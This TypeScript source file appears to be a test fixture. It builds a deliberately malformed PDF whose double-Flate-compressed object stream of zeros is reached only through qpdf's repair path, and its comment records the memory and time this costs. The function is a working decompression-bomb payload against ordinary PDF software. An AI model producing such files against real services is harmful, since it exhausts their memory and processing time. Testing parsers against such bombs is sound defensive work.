/**
 * A PDF bomb behind damage: an invalid object stops
 * pdf-lib's strict load before it reaches an object stream that inflates,
 * through `[/FlateDecode /FlateDecode]`, to `inflatedBytes` of zeros. A
 * cross-reference stream places an object inside it, so qpdf's repair reads
 * (inflates) the stream: 512 MB took qpdf 1 GB of RSS and 15 s unbounded.
 */
import { deflateSync } from 'node:zlib';

export function bombBehindDamage(inflatedBytes: number): Buffer {
  const bomb = deflateSync(deflateSync(Buffer.alloc(inflatedBytes), { level: 9 }), { level: 9 });
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let length = 0;
  const add = (s: string | Buffer) => {
    const b = typeof s === 'string' ? Buffer.from(s, 'latin1') : s;
    parts.push(b);
    length += b.length;
  };
  const object = (n: number, body: string) => {
    offsets[n] = length;
    add(`${n} 0 obj\n${body}\nendobj\n`);
  };
  add('%PDF-1.7\n');
  object(1, '<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>');
  object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>');
  object(4, '<< /Broken [1 2 >>'); // the damage: pdf-lib's strict load stops here
  offsets[5] = length;
  add(
    `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${bomb.length} >>\nstream\n`,
  );
  add(bomb);
  add('\nendstream\nendobj\n');
  // Cross-reference stream: object 6 is the first object of stream 5.
  offsets[7] = length;
  const entries = Buffer.alloc(8 * 7);
  const entry = (n: number, type: number, a: number, b: number) => {
    entries[n * 7] = type;
    entries.writeUInt32BE(a, n * 7 + 1);
    entries.writeUInt16BE(b, n * 7 + 5);
  };
  entry(0, 0, 0, 65535);
  for (const n of [1, 2, 3, 4, 5, 7]) entry(n, 1, offsets[n]!, 0);
  entry(6, 2, 5, 0);
  add(
    `7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length ${entries.length} >>\nstream\n`,
  );
  add(entries);
  add(`\nendstream\nendobj\nstartxref\n${offsets[7]}\n%%EOF\n`);
  return Buffer.concat(parts);
}
